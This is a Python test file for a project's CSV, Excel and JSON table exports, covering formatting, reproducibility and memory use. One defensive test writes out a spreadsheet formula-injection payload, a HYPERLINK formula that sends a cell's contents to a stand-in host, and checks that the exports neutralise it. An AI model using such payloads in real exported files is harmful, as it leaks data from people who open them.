"""The same rows for people and for programs, with nothing in them that a spreadsheet would compute."""

import csv
import io
import json
import tracemalloc
import zipfile
from datetime import date
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from django.utils import translation

from kacanik_comms.core.tables import (
    BEGINS_A_FORMULA,
    KEPT_IN_MEMORY,
    Column,
    ColumnKind,
    Table,
    as_csv,
    as_json,
    as_workbook,
    dictionary_of,
    harmless,
)

COLUMNS = [
    Column("title", "title", "What is done."),
    Column("kind", "kind", "Which one.", ColumnKind.CODE, {"special": "e veçantë"}),
    Column("cost", "cost", "In euro.", ColumnKind.MONEY),
    Column("day", "day", "When.", ColumnKind.DAY),
    Column("done", "done", "Whether.", ColumnKind.YES_NO),
    Column("offices", "offices", "Who.", ColumnKind.LIST),
]
ROW = ("Ditë e hapur", "special", Decimal("1000.50"), date(2023, 11, 30), True, ["Zyra A", "Zyra B"])
NAMESPACE = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def table_of(*rows):
    return Table("activities", "activities", COLUMNS, rows)


def json_of(table, **about):
    with as_json(table, **about) as file:
        return file.read()


def csv_of(table):
    with as_csv(table) as file:
        return file.read()


def workbook_of(*tables):
    with as_workbook(tables, title="t", about="a", made_on=date(2023, 1, 1)) as file:
        return file.read()


def read_csv(content):
    return list(csv.reader(io.StringIO(content.decode())))


def cells_of(book, sheet=1):
    """What stands in the cells of a sheet, by their places; with the formulas, of which there must be none."""
    with zipfile.ZipFile(io.BytesIO(book)) as file:
        root = ElementTree.fromstring(file.read(f"xl/worksheets/sheet{sheet}.xml"))  # noqa: S314
    assert not root.findall(".//x:f", NAMESPACE)
    cells: dict[str, str | float] = {}
    for cell in root.iter(f"{{{NAMESPACE['x']}}}c"):
        if cell.get("t") == "inlineStr":
            cells[cell.attrib["r"]] = "".join(cell.itertext())
        elif (value := cell.find("x:v", NAMESPACE)) is not None:
            cells[cell.attrib["r"]] = float(value.text or "")
    return cells


def test_csv_is_for_programs():
    content = csv_of(table_of(ROW, ("", None, None, None, False, [])))
    assert not content.startswith(b"\xef\xbb\xbf")
    assert read_csv(content) == [
        ["title", "kind", "cost", "day", "done", "offices"],
        ["Ditë e hapur", "special", "1000.50", "2023-11-30", "true", "Zyra A; Zyra B"],
        ["", "", "", "", "false", ""],
    ]


def test_a_spreadsheet_is_for_people():
    cells = cells_of(workbook_of(table_of(ROW)))
    assert [cells[f"{column}1"] for column in "ABCDEF"] == ["Title", "Kind", "Cost", "Day", "Done", "Offices"]
    assert cells["A2"] == "Ditë e hapur"
    assert cells["B2"] == "E veçantë"
    assert cells["C2"] == 1000.5  # a number
    assert cells["D2"] == 45260  # a day, as Excel counts them
    assert cells["E2"] == "yes"
    assert cells["F2"] == "Zyra A; Zyra B"


def test_a_last_sheet_explains_the_columns():
    cells = cells_of(workbook_of(table_of(ROW)), sheet=2)
    assert (cells["B2"], cells["C2"], cells["D2"]) == ("Title", "title", "What is done.")
    assert cells["E3"] == "special = e veçantë"


def test_json_has_numbers_and_lists():
    data = json.loads(json_of(table_of(ROW), year=2023))
    assert (data["year"], data["count"]) == (2023, 1)
    assert json.loads(json_of(table_of())) == {"rows": [], "count": 0}
    assert data["rows"][0] == {
        "title": "Ditë e hapur",
        "kind": "special",
        "cost": 1000.5,
        "day": "2023-11-30",
        "done": True,
        "offices": ["Zyra A", "Zyra B"],
    }


@pytest.mark.parametrize("sign", BEGINS_A_FORMULA)
def test_nothing_that_somebody_wrote_is_computed(sign):
    attack = f'{sign}HYPERLINK("http://example.org?x="&A1)'
    row = (attack, "special", None, None, None, [attack])
    cells = read_csv(csv_of(table_of(row)))[1]
    assert cells[0] == f"'{attack}"
    assert cells[5] == f"'{attack}"
    book = cells_of(workbook_of(table_of(row)))
    # As the text that it is; a reader of XML takes line ends for one kind.
    assert isinstance(book["A2"], str)
    assert book["A2"].endswith("&A1)")


def test_a_number_that_is_less_than_nothing_stays_a_number():
    row: tuple[object, ...] = ("x", "special", Decimal("-5.00"), None, None, [])
    assert read_csv(csv_of(table_of(row)))[1][2] == "-5.00"


def test_an_ordinary_text_stays_as_it_is():
    assert harmless("E-mail: a=b") == "E-mail: a=b"


def test_a_text_longer_than_a_cell_is_cut_and_not_left_out():
    row: tuple[object, ...] = ("x" * 40_000, "special", None, None, None, [])
    cell = cells_of(workbook_of(table_of(row)))["A2"]
    assert len(cell) == 32_767
    assert cell.endswith("…")


def test_an_address_in_a_cell_is_a_text_and_no_link():
    row: tuple[object, ...] = ("https://example.org/", "special", None, None, None, [])
    book = workbook_of(table_of(row))
    with zipfile.ZipFile(io.BytesIO(book)) as file:
        assert not [name for name in file.namelist() if "_rels/sheet" in name]


def test_the_same_table_gives_the_same_bytes():
    made = [workbook_of(table_of(ROW)) for _time in "12"]
    assert made[0] == made[1]


@pytest.mark.parametrize("write", [csv_of, workbook_of, json_of])
def test_a_row_of_another_length_is_refused(write):
    with pytest.raises(ValueError, match="shorter"):
        write(table_of(("x",)))


def test_only_a_table_with_rows_has_filters_over_its_columns():
    def sheet_of(table):
        with zipfile.ZipFile(io.BytesIO(workbook_of(table))) as file:
            return file.read("xl/worksheets/sheet1.xml")

    assert b"<autoFilter" not in sheet_of(table_of())
    assert b'<autoFilter ref="A1:F3"' in sheet_of(table_of(ROW, ROW))


@pytest.mark.slow
@pytest.mark.parametrize("write", [csv_of, workbook_of])
def test_ten_times_as_many_rows_take_no_more_memory(write):
    def peak(rows):
        table = Table("activities", "activities", COLUMNS, (ROW for _row in range(rows)))
        tracemalloc.start()
        write(table)
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return most

    peak(1)  # what is imported and kept by the first one
    # The file itself is read into memory here.
    assert peak(10_000) < 2.5 * peak(1_000) + 2 * KEPT_IN_MEMORY


def test_the_dictionary_explains_each_column_and_its_codes():
    with translation.override("sq"):
        data = list(dictionary_of([table_of()]))
    assert data[1] == {
        "table": "activities",
        "column": "kind",
        "title": "Kind",
        "description": "Which one.",
        "type": "code",
        "codes": {"special": "e veçantë"},
    }
